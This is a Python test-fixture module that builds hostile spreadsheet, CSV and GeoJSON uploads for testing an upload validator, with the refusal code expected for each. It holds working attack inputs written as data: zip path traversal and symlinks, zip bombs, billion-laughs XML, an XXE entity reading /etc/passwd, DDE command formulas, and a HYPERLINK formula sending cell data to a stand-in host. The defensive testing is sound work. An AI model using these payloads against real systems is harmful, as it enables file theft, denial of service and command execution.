"""Hostile and broken uploads, made by code: what each is called, its kind (xlsx, csv, geojson) and its bytes.

`HOSTILE` is the list; `REFUSED_AS` says with which code a reader refuses it as a whole, None where it may be read (its
content is then judged row by row or shape by shape).
"""

import io
import json
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from typing import Any

XLSX, CSV, GEOJSON = "xlsx", "csv", "geojson"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
Entry = tuple[str, str, bytes, str | tuple[str, ...] | None]


def workbook(rows: str, *, tail: str = "", parts: dict[str, str | bytes] | None = None, sheets: int = 1) -> bytes:
    """Return an xlsx whose sheets hold `rows` (XML); `parts` are put in, or in place of, the ordinary parts."""
    sheet = f'{HEAD}<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData>{tail}</worksheet>'
    numbers = range(1, sheets + 1)
    ordinary: dict[str, str | bytes] = {
        "[Content_Types].xml": f'{HEAD}<Types xmlns="{PACKAGE}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{CONTENT_TYPE}.sheet.main+xml"/>'
        + "".join(
            f'<Override PartName="/xl/worksheets/sheet{n}.xml" ContentType="{CONTENT_TYPE}.worksheet+xml"/>'
            for n in numbers
        )
        + "</Types>",
        "_rels/.rels": relations(("rId1", f"{OFFICE}/officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": f'{HEAD}<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets>'
        + "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="rId{n}"/>' for n in numbers)
        + "</sheets></workbook>",
        "xl/_rels/workbook.xml.rels": relations(
            *((f"rId{n}", f"{OFFICE}/worksheet", f"worksheets/sheet{n}.xml") for n in numbers)
        ),
        **{f"xl/worksheets/sheet{n}.xml": sheet for n in numbers},
    }
    return archive(ordinary | (parts or {}))


def relations(*lines: tuple[str, str, str], mode: str = "") -> str:
    """Return a part of relations: identifier, type, target."""
    made = "".join(f'<Relationship Id="{i}" Type="{kind}" Target="{target}"{mode}/>' for i, kind, target in lines)
    return f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">{made}</Relationships>'


def archive(parts: dict[str, str | bytes]) -> bytes:
    """Return a zip of these parts."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zipped:
        for name, content in parts.items():
            zipped.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def text_cell(at: str, text: str) -> str:
    """Return a cell of text as XML, `text` unescaped."""
    return f'<c r="{at}" t="inlineStr"><is><t>{text}</t></is></c>'


def row(number: int, *cells: str) -> str:
    """Return a row as XML."""
    return f'<row r="{number}">{"".join(cells)}</row>'


GOOD_ROW = row(1, text_cell("A1", "姓名"))
GOOD = workbook(GOOD_ROW)


def square(x: float, y: float, side: float = 0.01) -> list[list[float]]:
    """Return a closed ring."""
    return [[x, y], [x + side, y], [x + side, y + side], [x, y + side], [x, y]]


def polygon(*rings: Any) -> dict[str, Any]:
    """Return a polygon as GeoJSON."""
    return {"type": "Polygon", "coordinates": list(rings)}


def town(geometry: Any, code: str = "T1", name: str = "甲街道") -> dict[str, Any]:
    """Return a street-town as a feature."""
    return {"type": "Feature", "properties": {"类型": "街镇", "名称": name, "代码": code}, "geometry": geometry}


def circle(geometry: Any, code: str = "C1", name: str = "第1生活圈", **changes: Any) -> dict[str, Any]:
    """Return a life circle as a feature."""
    said = {"类型": "生活圈", "名称": name, "代码": code, "街镇": "甲街道", "片区": "第1片区", "常住人口": 10_000}
    return {"type": "Feature", "properties": said | changes, "geometry": geometry}


def collection(*features: Any, **members: Any) -> dict[str, Any]:
    """Return a collection of features."""
    return {"type": "FeatureCollection", **members, "features": list(features)}


SOUND = collection(town(polygon(square(121.4, 31.3))), circle(polygon(square(121.4, 31.3))))
SOUND_TEXT = json.dumps(SOUND, ensure_ascii=False)


def _shape_text(text: str) -> bytes:
    """Return a sound blueprint with `text` in place of its first coordinate."""
    return SOUND_TEXT.replace("121.4", text, 1).encode("utf-8", "surrogatepass")


def _zip_tricks() -> Iterator[Entry]:
    parts = {"xl/worksheets/sheet1.xml": b"<x/>"}
    for name, bad in (
        ("absolute", "/etc/passwd"),
        ("parent", "../../evil.xml"),
        ("parent inside", "xl/../../evil.xml"),
        ("backslash", "xl\\..\\evil.xml"),
        ("drive", "C:evil.xml"),
        ("line break", "xl/ev\nil.xml"),
    ):
        yield f"zip name: {name}", XLSX, workbook(GOOD_ROW, parts={bad: b"x"}), "zip_name"
    yield (
        "zip name: NUL",
        XLSX,
        workbook(GOOD_ROW, parts={"xl/evilQx.xml": b"x"}).replace(b"evilQ", b"evil\0"),
        "zip_name",
    )
    yield "zip twins by case", XLSX, workbook(GOOD_ROW, parts={"XL/Worksheets/SHEET1.xml": b"<x/>"}), "zip_twins"
    yield "zip twins by width", XLSX, workbook(GOOD_ROW, parts={"ｘl/worksheets/sheet1.xml": b"<x/>"}), "zip_twins"
    yield (
        "zip with 201 entries",
        XLSX,
        workbook(GOOD_ROW, parts={f"xl/m{n}": b"" for n in range(196)}),
        "too_many_entries",
    )
    yield "zip in zip", XLSX, workbook(GOOD_ROW, parts={"xl/embeddings/a.xlsx": GOOD}), "embedded_file"
    yield "gzip in zip", XLSX, workbook(GOOD_ROW, parts={"xl/media/a.png": b"\x1f\x8b\x08"}), "embedded_file"
    yield "old document in zip", XLSX, workbook(GOOD_ROW, parts={"a.bin": b"\xd0\xcf\x11\xe0"}), "embedded_file"
    yield (
        "no spreadsheet in zip",
        XLSX,
        archive(parts | {"[Content_Types].xml": f"<Types xmlns='{PACKAGE}'/>"}),
        "damaged",
    )
    yield (
        "text document in zip",
        XLSX,
        archive({"word/document.xml": "<w/>", "[Content_Types].xml": "<T/>"}),
        ("not_a_spreadsheet"),
    )
    yield "zip empty", XLSX, archive({}), "not_a_spreadsheet"
    yield "zip of one file", XLSX, archive({"a.txt": "x"}), "not_a_spreadsheet"
    yield "zip with link", XLSX, _with_attributes(0o120777), "zip_link"
    yield "zip with device", XLSX, _with_attributes(0o020666), "zip_link"
    yield "zip encrypted", XLSX, _patched(GOOD, flags=1), "encrypted"
    yield "zip of unknown method", XLSX, _patched(GOOD, method=99), "damaged"
    yield "zip overlapping", XLSX, _overlapping(), "zip_overlap"
    yield "zip with data before it", XLSX, b"PK\x03\x04" + b"\0" * 60 + GOOD, ("zip_overlap", "damaged")
    yield "zip with wrong checksum", XLSX, _wrong_checksum(), "damaged"
    yield "zip that lies about its size", XLSX, _lying_size(), "damaged"
    yield "zip with two stories of a name", XLSX, GOOD.replace(b"xl/workbook.xml", b"xl/wOrkbook.xml", 1), "damaged"


def _with_attributes(mode: int) -> bytes:
    buffer = io.BytesIO(GOOD)
    with zipfile.ZipFile(buffer, "a") as zipped:
        entry = zipfile.ZipInfo("xl/media/image.png")
        entry.create_system, entry.external_attr = 3, mode << 16
        zipped.writestr(entry, "/etc/passwd")
    return buffer.getvalue()


def _patched(content: bytes, *, flags: int | None = None, method: int | None = None) -> bytes:
    """Return a zip whose first entry has other flags or another method, in header and directory."""
    changed = bytearray(content)
    for start, flags_at in ((content.index(b"PK\x03\x04"), 6), (content.index(b"PK\x01\x02"), 8)):
        for value, at in ((flags, flags_at), (method, flags_at + 2)):
            if value is not None:
                struct.pack_into("<H", changed, start + at, value)
    return bytes(changed)


def _overlapping() -> bytes:
    """Return a zip whose second entry lies within the bytes of the first."""
    inner = _local("xl/b.xml", b"<b/>") + b"<b/>"
    outer = _local("xl/a.xml", inner) + inner
    entries = _central("xl/a.xml", inner, 0) + _central("xl/b.xml", b"<b/>", len(outer) - len(inner))
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 2, 2, len(entries), len(outer), 0)
    return outer + entries + end


def _local(name: str, data: bytes) -> bytes:
    sizes = (zlib.crc32(data), len(data), len(data), len(name), 0)
    return struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 33, *sizes) + name.encode()


def _central(name: str, data: bytes, at: int) -> bytes:
    sizes = (zlib.crc32(data), len(data), len(data), len(name), 0, 0, 0, 0, 0, at)
    return struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 0, 0, 33, *sizes) + name.encode()


def _wrong_checksum() -> bytes:
    content = bytearray(GOOD)
    at = bytes(content).rindex(b"PK\x01\x02")
    content[at + 16] ^= 0xFF
    return bytes(content)


def _lying_size() -> bytes:
    """Return a workbook whose sheet is said to be 100 bytes and unpacks to 5 MB."""
    content = bytearray(workbook(GOOD_ROW + " " * 5_000_000))
    at = bytes(content).rindex(b"PK\x01\x02")
    struct.pack_into("<I", content, at + 24, 100)
    return bytes(content)


def _bombs() -> Iterator[Entry]:
    padding = b" " * 1_000_000
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = b"".join(squeeze.compress(padding) for _ in range(120)) + squeeze.flush()
    yield (
        "bomb: 120 MB of deflated padding",
        XLSX,
        _stored_as_deflated("xl/worksheets/sheet1.xml", body, 120_000_000),
        "too_much",
    )
    big = "<row>" + "<c/>" * 1_000_000 + "</row>"
    yield "bomb: a million empty cells", XLSX, workbook(big), "too_much"
    yield "bomb: padding between cells", XLSX, workbook(GOOD_ROW + " " * 30_000_000), "too_much"
    lol = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    laughs = f'<!DOCTYPE w [<!ENTITY l0 "lol">{lol}]><worksheet xmlns="{MAIN}"><sheetData>&l9;</sheetData></worksheet>'
    sheet = "xl/worksheets/sheet1.xml"
    yield "billion laughs", XLSX, workbook("", parts={sheet: laughs}), "doctype"
    yield (
        "quadratic blow-up",
        XLSX,
        workbook("", parts={sheet: f'<!DOCTYPE w [<!ENTITY a "{"a" * 9999}">]><w>&a;</w>'}),
        "doctype",
    )
    outside = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>'
    yield "entity from a file", XLSX, workbook("", parts={sheet: outside}), "doctype"
    yield "entity in UTF-16", XLSX, workbook("", parts={sheet: outside.encode("utf-16")}), "doctype"
    yield "document type in the list of sheets", XLSX, workbook("", parts={"xl/workbook.xml": outside}), "doctype"
    yield "document type in the relations", XLSX, workbook("", parts={"_rels/.rels": outside}), "doctype"
    yield "document type in the list of types", XLSX, workbook("", parts={"[Content_Types].xml": outside}), "doctype"
    yield "XML nested 200,000 deep", XLSX, workbook("<a>" * 200_000), "damaged"
    yield "XML nested 65 deep", XLSX, workbook("<a>" * 63 + "</a>" * 63), "damaged"
    yield "XML with undefined entity", XLSX, workbook(row(1, text_cell("A1", "&x;"))), "damaged"
    yield "XML with character zero", XLSX, workbook(row(1, text_cell("A1", "&#0;"))), "damaged"
    yield "XML with one long name", XLSX, workbook("<" + "a" * 900_000 + "/>"), None
    yield (
        "XML of unknown encoding",
        XLSX,
        workbook("", parts={sheet: '<?xml version="1.0" encoding="x-evil"?><w/>'}),
        "damaged",
    )


def _stored_as_deflated(name: str, body: bytes, size: int) -> bytes:
    """Return a workbook whose part `name` has the deflated stream `body` that claims to be honest."""
    head = (
        struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 33, 0, len(body), size, len(name), 0) + name.encode()
    )
    entry = struct.pack(
        "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 33, 0, len(body), size, len(name), 0, 0, 0, 0, 0, 0
    )
    directory = entry + name.encode()
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(directory), len(head) + len(body), 0)
    return head + body + directory + end


def _cells() -> Iterator[Entry]:
    yield "cell at XFD1048576", XLSX, workbook(row(1_048_576, text_cell("XFD1048576", "x"))), "too_many_rows"
    yield "cell at CV100000", XLSX, workbook(row(100_000, text_cell("CV100000", "x"))), "too_many_rows"
    yield "cell at A20001", XLSX, workbook(row(20_001, text_cell("A20001", "x"))), "too_many_rows"
    yield "cell at XFD1", XLSX, workbook(row(1, text_cell("XFD1", "x"))), "too_many_columns"
    yield "cell in column 201", XLSX, workbook(row(1, text_cell("GS1", "x"))), "too_many_columns"
    box = row(1, text_cell("A1", "x")) + row(20_000, text_cell("Z20000", "x"))
    yield "box of 520,000 cells", XLSX, workbook(box), "too_many_cells"
    yield "51 sheets", XLSX, workbook(GOOD_ROW, sheets=51), "too_many_sheets"
    yield "cell beyond the letters", XLSX, workbook(row(1, text_cell("AAAA1", "x"))), "damaged"
    yield "cell in row zero", XLSX, workbook('<row r="0"><c r="A0"><v>1</v></c></row>'), "damaged"
    yield "cell of another row", XLSX, workbook(row(1, text_cell("A2", "x"))), "damaged"
    yield "cell twice", XLSX, workbook(row(1, text_cell("A1", "x"), text_cell("A1", "y"))), "damaged"
    yield "row twice", XLSX, workbook(GOOD_ROW + GOOD_ROW), "damaged"
    yield "row of 5,000 figures", XLSX, workbook(f'<row r="{"9" * 5000}"><c><v>1</v></c></row>'), "damaged"
    yield "row below zero", XLSX, workbook('<row r="-1"><c><v>1</v></c></row>'), "damaged"
    yield "cell outside a row", XLSX, workbook('<c r="A1"><v>1</v></c>'), "damaged"
    yield "shared string that is none", XLSX, workbook(row(1, '<c r="A1" t="s"><v>7</v></c>')), "damaged"
    yield "number 1e999", XLSX, workbook(row(1, '<c r="A1"><v>1e999</v></c>')), "damaged"
    yield "number NaN", XLSX, workbook(row(1, '<c r="A1"><v>NaN</v></c>')), "damaged"
    yield "number of 5,000 figures", XLSX, workbook(row(1, f'<c r="A1"><v>{"9" * 5000}</v></c>')), "damaged"
    yield "cell of unknown type", XLSX, workbook(row(1, '<c r="A1" t="evil"><v>1</v></c>')), "damaged"
    yield "text with NUL escaped", XLSX, workbook(row(1, text_cell("A1", "张_x0000_三"))), "control_characters"
    yield "text with a lone surrogate", XLSX, workbook(row(1, text_cell("A1", "_xD800_"))), "control_characters"
    yield "text of 32,768 characters", XLSX, workbook(row(1, text_cell("A1", "字" * 32_768))), "cell_too_long"
    formula = row(2, "<c r='A2'><f>HYPERLINK(\"http://a.invalid/\"&amp;A1)</f><v>7</v></c>")
    yield "formula that calls out", XLSX, workbook(GOOD_ROW + formula), None
    yield "formula with a command", XLSX, workbook(row(1, "<c r='A1'><f>cmd|' /C calc'!A0</f></c>")), None
    yield "text that looks like a formula", XLSX, workbook(row(1, text_cell("A1", "=1+1"))), None
    merges = "".join(f'<mergeCell ref="A1:A{n}"/>' for n in range(2, 20_003))
    yield "20,001 merged ranges", XLSX, workbook(GOOD_ROW, tail=f"<mergeCells>{merges}</mergeCells>"), "too_many_merges"
    piled = "<mergeCells>" + '<mergeCell ref="A1:GR20000"/>' * 5000 + "</mergeCells>"
    box = row(1, text_cell("A1", "x")) + row(20_000, text_cell("A20000", "x"))
    yield "merged ranges piled up", XLSX, workbook(box, tail=piled), "damaged"
    strings = f'<sst xmlns="{MAIN}"><si><t>{"字" * 32_000}</t></si></sst>'
    many = "".join(row(n, f'<c r="A{n}" t="s"><v>0</v></c>') for n in range(1, 20_001))
    rels = relations(
        ("rId1", f"{OFFICE}/worksheet", "worksheets/sheet1.xml"), ("s", f"{OFFICE}/sharedStrings", "s.xml")
    )
    repeated = workbook(many, parts={"xl/s.xml": strings, "xl/_rels/workbook.xml.rels": rels})
    yield "one long text 20,000 times", XLSX, repeated, "too_much_text"


def _parts() -> Iterator[Entry]:
    yield "macros", XLSX, workbook(GOOD_ROW, parts={"xl/vbaProject.bin": b"x"}), "macros"
    macro_type = (
        f'<Types xmlns="{PACKAGE}/content-types"><Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'
    )
    yield "macros by type", XLSX, workbook(GOOD_ROW, parts={"[Content_Types].xml": macro_type}), "macros"
    yield "macro sheet", XLSX, workbook(GOOD_ROW, parts={"xl/macrosheets/sheet1.xml": b"<x/>"}), "macros"
    yield "active control", XLSX, workbook(GOOD_ROW, parts={"xl/activeX/activeX1.xml": b"<x/>"}), "macros"
    yield (
        "external link",
        XLSX,
        workbook(GOOD_ROW, parts={"xl/externalLinks/externalLink1.xml": b"<x/>"}),
        "external_links",
    )
    yield "data connection", XLSX, workbook(GOOD_ROW, parts={"xl/connections.xml": b"<x/>"}), "external_links"
    outside = relations(("a", f"{OFFICE}/image", "http://a.invalid/a.png"), mode=' TargetMode="External"')
    yield (
        "picture from outside",
        XLSX,
        workbook(GOOD_ROW, parts={"xl/drawings/_rels/d.xml.rels": outside}),
        "external_links",
    )
    book = relations(("rId1", f"{OFFICE}/worksheet", "http://a.invalid/s.xml"), mode=' TargetMode="External"')
    yield "sheet from outside", XLSX, workbook(GOOD_ROW, parts={"xl/_rels/workbook.xml.rels": book}), "external_links"
    gone = relations(("rId1", f"{OFFICE}/worksheet", "../../../../etc/passwd"))
    yield "sheet in the file system", XLSX, workbook(GOOD_ROW, parts={"xl/_rels/workbook.xml.rels": gone}), "damaged"
    yield "no relations", XLSX, workbook(GOOD_ROW, parts={"_rels/.rels": relations()}), "damaged"
    yield "binary workbook", XLSX, workbook(GOOD_ROW, parts={"xl/workbook.bin": b"x"}), "xlsb"
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    yield "encrypted workbook", XLSX, old + "EncryptedPackage".encode("utf-16-le") + b"\0" * 600, "encrypted"
    yield "old workbook", XLSX, old + "Workbook".encode("utf-16-le") + b"\0" * 600, "xls"
    yield "old document", XLSX, old, "not_a_spreadsheet"
    yield "empty workbook file", XLSX, b"", "empty"
    yield "xlsx over 10 MB", XLSX, GOOD + b"\0" * (10 << 20), "too_large"
    for share in (0.1, 0.5, 0.9, 0.99):
        yield f"truncated at {share:.0%}", XLSX, GOOD[: int(len(GOOD) * share)], "damaged"
    yield "two letters of a zip", XLSX, b"PK", "not_a_spreadsheet"


def _csv() -> Iterator[Entry]:
    head = "姓名,电话\n".encode()
    yield "csv with NUL", CSV, head + "张\0三,1\n".encode(), "control_characters"
    yield "csv with escape", CSV, head + b"\x1b[2J,1\n", "control_characters"
    yield "csv with vertical tab", CSV, head + b"a\x0bb,1\n", "control_characters"
    yield "csv with a half character", CSV, head + "张".encode()[:2] + b",1\n\xff\xff", "encoding"
    yield "csv in broken UTF-8 with mark", CSV, b"\xef\xbb\xbf" + "姓名".encode("gbk"), "encoding"
    yield "csv in UTF-16, odd length", CSV, "姓名,电话".encode("utf-16") + b"a", "encoding"
    yield "csv with surrogate halves", CSV, b"\xef\xbb\xbf\xed\xa0\x80,1\n", "encoding"
    yield "csv with an open quote", CSV, head + '"张三,1\n'.encode() * 3, "csv_quotes"
    yield "csv with a quote inside", CSV, head + '"张"三,1\n'.encode(), "csv_quotes"
    yield "csv with an endless field", CSV, head + b"a" * 40_000 + b",1\n", "cell_too_long"
    yield "csv with an endless quoted field", CSV, head + b'"' + b"a\n" * 400_000, "cell_too_long"
    yield "csv with 201 columns", CSV, ",".join(f"c{n}" for n in range(201)).encode(), "too_many_columns"
    yield "csv of commas", CSV, b"," * 9_000_000, None
    yield "csv of line breaks", CSV, b"\n" * 9_000_000, None
    yield "csv of quotes", CSV, b'"' * 9_000_000, ("cell_too_long", "csv_quotes")
    yield "csv with 50,001 rows", CSV, b"a\n" * 50_001, "too_many_rows"
    yield "csv over 10 MB", CSV, b"a," * ((5 << 20) + 1), "too_large"
    yield "csv empty", CSV, b"", "empty"
    yield "csv of a mark alone", CSV, b"\xef\xbb\xbf", None
    yield "csv of emoji", CSV, "姓名,😀𠮷👨‍👩‍👧\n".encode(), None
    yield "csv of formulas", CSV, head + '=cmd|"/C calc"!A0,@SUM(1)\n'.replace('"', "'").encode(), None
    yield "csv of one deep number", CSV, b"1e999," + b"9" * 5000, None
    for name, content in (
        ("web page", b"<!DOCTYPE html><table><tr><td>1</td></tr></table>"),
        ("picture", b"\x89PNG\r\n\x1a\n" + b"\0" * 40),
        ("PDF", b"%PDF-1.7\n"),
        ("program", b"\x7fELF" + b"\0" * 99),
        ("drawing", b"\xef\xbb\xbf <svg xmlns='http://www.w3.org/2000/svg'/>"),
        ("database", b"SQLite format 3\0"),
    ):
        yield f"{name} called csv", CSV, content, "not_a_spreadsheet"
    yield "noise called csv", CSV, random.Random(1).randbytes(5000), ("encoding", "control_characters")


def _geojson() -> Iterator[Entry]:
    yield "geojson nested 100,000 deep", GEOJSON, b"[" * 100_000, "too_deep"
    yield "geojson nested 33 deep", GEOJSON, b"[" * 33 + b"]" * 33, "too_deep"
    yield "objects nested 100,000 deep", GEOJSON, b'{"a":' * 100_000, "too_deep"
    yield "geojson of empty lists", GEOJSON, b"[" + b"[]," * 2_000_000 + b"[]]", "too_much"
    yield "geojson over 20 MB", GEOJSON, SOUND_TEXT.encode() + b" " * (20 << 20), "too_large"
    yield "geojson of one string", GEOJSON, b'"' + b"a" * 15_000_000, "not_json"
    yield "geojson of backslashes", GEOJSON, b'"' + b"\\" * 9_999_999, "not_json"
    yield "geojson of escaped quotes", GEOJSON, b'\\"' * 5_000_000, "not_json"
    yield "geojson of small numbers", GEOJSON, b"[" + b"1.5," * 4_000_000 + b"1]", "not_geojson"
    yield "geojson empty", GEOJSON, b"", "empty"
    yield "geojson of blanks", GEOJSON, b" \n ", "empty"
    yield "geojson truncated", GEOJSON, SOUND_TEXT.encode()[:-9], "not_json"
    yield "geojson in GBK", GEOJSON, SOUND_TEXT.encode("gbk"), "encoding"
    yield "geojson in UTF-16", GEOJSON, SOUND_TEXT.encode("utf-16"), "encoding"
    yield "geojson with NUL", GEOJSON, SOUND_TEXT.replace("甲", "甲\0").encode(), "not_json"
    yield (
        "geojson with a key twice",
        GEOJSON,
        SOUND_TEXT.replace('"代码"', '"代码":"X","代码"', 1).encode(),
        "doubled_key",
    )
    yield (
        "geojson with features twice",
        GEOJSON,
        SOUND_TEXT.replace('"features"', '"features":[],"features"', 1).encode(),
        ("doubled_key"),
    )
    yield "zip called geojson", GEOJSON, GOOD, "not_geojson"
    yield "web page called geojson", GEOJSON, b"<html></html>", "not_geojson"
    for name, content in (("number", b"1"), ("null", b"null"), ("list", b"[]"), ("object", b"{}"), ("text", b'"x"')):
        yield f"geojson of one {name}", GEOJSON, content, "not_geojson"
    yield "geojson of one feature", GEOJSON, json.dumps(SOUND["features"][0]).encode(), "not_geojson"
    yield "features that are an object", GEOJSON, b'{"type":"FeatureCollection","features":{}}', "not_geojson"
    for name, text in (
        ("1e999", "1e999"), ("NaN", "NaN"), ("-Infinity", "-Infinity"), ("5,000 figures", "9" * 5000), ("null", "null"),
        ("text", '"121.4"'), ("true", "true"), ("list", "[121.4]"), ("object", "{}"), ("5e-324", "5e-324"),
        ("1e308", "1e308"),
    ):  # fmt: skip
        yield f"coordinate {name}", GEOJSON, _shape_text(text), None
    yield from (
        (name, GEOJSON, json.dumps(data).encode("utf-8", "surrogatepass"), None) for name, data in _broken_features()
    )


def _broken_features() -> Iterator[tuple[str, Any]]:
    whole, odd = polygon(square(121.4, 31.3)), random.Random(2)
    scribble = [[121 + odd.random(), 31 + odd.random()] for _ in range(19_999)]
    yield "random outline of 20,000 points", collection(town(polygon([*scribble, scribble[0]])))
    yield "outline of 20,001 points", collection(town(polygon([*scribble, [121.1, 31.1], scribble[0]])))
    yield "200,001 vertices", collection(*(town(polygon(square(121, 31) * 4), str(n)) for n in range(10_001)))
    yield "no features at all", collection()
    yield "5,001 features", collection(*(town(whole, str(n)) for n in range(5_001)))
    yield "400 shapes on one place", collection(*(town(whole, str(n), f"街{n}") for n in range(400)))
    yield (
        "features that are none",
        collection(None, 1, "x", [], {}, {"type": "Feature"}, {"type": "Feature", "properties": 1}),
    )
    yield "name with a lone surrogate", collection(town(whole, name="\ud800"))
    yield (
        "name with NUL and turn of direction",
        collection(town(whole, name="甲\0乙\u202e"), circle(whole, code="\u200b")),
    )
    yield "name that is a list", collection(town(whole, name=[1]), circle(whole, code={"a": 1}))
    yield "name of a megabyte", collection(town(whole, name="字" * 300_000))
    yield "collection of geometries", collection(town({"type": "GeometryCollection", "geometries": [whole]}))
    yield "nested coordinates", collection(town({"type": "Polygon", "coordinates": [[[[[[121.4]]]]]]}))
    yield "coordinates of text", collection(town({"type": "Polygon", "coordinates": "121.4,31.3"}))
    yield "foreign coordinate system", collection(town(whole), crs={"type": "name", "properties": {"name": "GCJ-02"}})
    yield (
        "coordinate system of an odd kind",
        collection(town(whole), crs={"type": "link", "properties": {"href": "http://a"}}),
    )
    yield "coordinate system that is a list", collection(town(whole), crs=[[]])
    combs = [_comb(121.4, 31.3, 400), [[y + 90.1, x - 90.1] for x, y in _comb(121.4, 31.3, 400)]]
    yield (
        "two combs across each other",
        collection(*(town(polygon(comb), str(n), f"街{n}") for n, comb in enumerate(combs))),
    )


def _comb(x: float, y: float, teeth: int) -> list[list[float]]:
    """Return the outline of a comb."""
    step, points = 0.01 / teeth, [[x, y], [x, y + 0.01]]
    for n in range(teeth):
        left = x + n * step
        points += [[left + step / 2, y + 0.01], [left + step / 2, y + 0.001], [left + step, y + 0.001]]
        points += [[left + step, y + 0.01]]
    return [*points, [x + 0.01, y], [x, y]]


def _mutations() -> Iterator[Entry]:
    """Yield files with bytes changed, taken out and doubled, by seed; they may by chance still be readable."""
    bases = (
        (XLSX, GOOD),
        (CSV, '姓名,电话\n"张\n三",13800000000\n'.encode()),
        (GEOJSON, SOUND_TEXT.encode()),
    )
    for kind, base in bases:
        for seed in range(12):
            chance, content = random.Random(seed), bytearray(base)
            for _ in range(chance.randint(1, 6)):
                at = chance.randrange(len(content))
                match chance.randrange(3):
                    case 0:
                        content[at] = chance.randrange(256)
                    case 1:
                        del content[at : at + chance.randint(1, 9)]
                    case 2:
                        content[at:at] = content[at : at + chance.randint(1, 40)]
            yield f"{kind} mutated by seed {seed}", kind, bytes(content), None


_ALL: list[Entry] = [
    *_zip_tricks(), *_bombs(), *_cells(), *_parts(), *_csv(), *_geojson(), *_mutations(),
]  # fmt: skip

HOSTILE: list[tuple[str, str, bytes]] = [(name, kind, content) for name, kind, content, _ in _ALL]
"""Every hostile file: what it is, its kind, its bytes."""

REFUSED_AS: dict[str, tuple[str, ...] | None] = {
    name: (code,) if isinstance(code, str) else code for name, _, _, code in _ALL
}
"""The codes with one of which each is refused as a whole; None where it may also be read."""
